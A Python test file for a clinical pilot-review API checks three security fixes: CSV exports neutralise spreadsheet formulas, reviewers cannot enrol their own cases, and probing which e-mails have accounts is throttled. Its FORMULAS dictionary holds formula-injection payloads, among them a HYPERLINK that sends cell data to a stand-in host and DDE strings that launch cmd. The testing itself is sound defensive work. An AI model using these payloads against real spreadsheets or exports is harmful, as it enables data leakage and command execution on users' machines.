"""Issue #23 over HTTP: a review that tries to run in the statistician's spreadsheet, a
reviewer enrolling their own case, and a doctor testing which e-mails have accounts."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import httpx
from fastapi.testclient import TestClient

from api.main import create_app
from core.csv_text import FORMULA_STARTS
from tests.api.conftest import Doctor, create_case, make_clinic, sign_up
from tests.doubles import finish_analysis

FORMULAS = {
    "diagnosis": '=HYPERLINK("http://evil.example/?"&A1,"Click for the report")',
    "comment": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "minus": "-2+3+cmd|' /C notepad'!'A1'",
}


def _scores(comment: str) -> dict[str, Any]:
    return {
        section: {
            "verdict": "minor_edit",
            "ratings": {"accurate": 4, "complete": 4, "useful": 3, "free_of_invented_facts": 5},
            "comment": comment,
        }
        for section in ("case_summary", "soap_note", "primary_diagnosis")
    }


def _call(client: TestClient, who: Doctor, method: str, path: str, **kw: Any) -> httpx.Response:
    return client.request(method, f"/api/v1/pilots{path}", headers=who.headers, **kw)


def _pilot_with(client: TestClient, lead: Doctor, members: list[tuple[Doctor, str]]) -> str:
    created = _call(client, lead, "POST", "", json={"name": "Fever pilot",
                    "starts_on": "2026-11-01", "ends_on": "2027-02-01"})  # fmt: skip
    pilot: str = created.json()["pilot_id"]
    for member, role in members:
        added = _call(client, lead, "POST", f"/{pilot}/members",
                      json={"email": member.email, "role": role})  # fmt: skip
        assert added.status_code == 201
    return pilot


def _analysed_case(client: TestClient, clinic: Any, doctor: Doctor) -> str:
    case_id: str = create_case(client, doctor)["case"]["case_id"]
    finish_analysis(clinic.provider.backend, doctor.user_id, case_id)
    return case_id


def test_no_cell_of_the_reviews_csv_starts_a_formula(tmp_path: Path) -> None:
    clinic = make_clinic(tmp_path / "data")
    with TestClient(create_app(clinic)) as client:
        lead, doc, rev = (sign_up(client, f"{who}@example.org") for who in ("lead", "doc", "rev"))
        pilot = _pilot_with(client, lead, [(doc, "doctor"), (rev, "reviewer")])
        case_id = _analysed_case(client, clinic, doc)
        [entry] = _call(client, doc, "POST", f"/{pilot}/enrolments",
                        json={"case_ids": [case_id]}).json()  # fmt: skip
        review = _call(client, rev, "POST", f"/{pilot}/enrolments/{entry['enrolment_id']}/reviews",
                       json={"diagnosis": FORMULAS["diagnosis"], "icd_code": "R50.9"})  # fmt: skip
        assert review.status_code == 201
        scored = _call(client, rev, "POST", f"/{pilot}/reviews/{review.json()['review_id']}/scores",
                       json={"scores": _scores(FORMULAS["comment"])})  # fmt: skip
        assert scored.status_code == 200
        exported = _call(client, lead, "GET", f"/{pilot}/export/reviews.csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows[0]["reviewer_diagnosis"] == "'" + FORMULAS["diagnosis"]
    assert rows[0]["soap_note_comment"] == "'" + FORMULAS["comment"]
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS), cell


def test_a_reviewer_cannot_enrol_their_own_case(tmp_path: Path) -> None:
    clinic = make_clinic(tmp_path / "data")
    with TestClient(create_app(clinic)) as client:
        lead, rev = (sign_up(client, f"{who}@example.org") for who in ("lead", "rev"))
        pilot = _pilot_with(client, lead, [(rev, "reviewer")])
        own = _analysed_case(client, clinic, rev)
        refused = _call(client, rev, "POST", f"/{pilot}/enrolments", json={"case_ids": [own]})
        assert refused.status_code == 403
        assert _call(client, lead, "GET", f"/{pilot}/enrolments").json() == []


def test_testing_which_emails_have_accounts_is_throttled(tmp_path: Path) -> None:
    clinic = make_clinic(tmp_path / "data")
    with TestClient(create_app(clinic)) as client:
        prober, known, colleague = (
            sign_up(client, f"{who}@example.org") for who in ("prober", "known", "colleague")
        )
        member = _pilot_with(client, colleague, [(prober, "reviewer")])
        # Not the coordinator: no lookup at all.
        assert _call(client, prober, "POST", f"/{member}/members",
                     json={"email": known.email}).status_code == 403  # fmt: skip
        # Coordinator of a pilot of one's own: ten misses, then no answer either way.
        pilot = _pilot_with(client, prober, [])
        answers = [
            _call(
                client,
                prober,
                "POST",
                f"/{pilot}/members",
                json={"email": f"someone{n}@example.org"},
            ).status_code
            for n in range(11)
        ]
        assert answers == [400] * 10 + [429]
        hit = _call(client, prober, "POST", f"/{pilot}/members", json={"email": known.email})
        assert hit.status_code == 429 and "retry-after" in hit.headers
        # Another coordinator is not held back.
        assert _call(client, colleague, "POST", f"/{member}/members",
                     json={"email": known.email}).status_code == 201  # fmt: skip
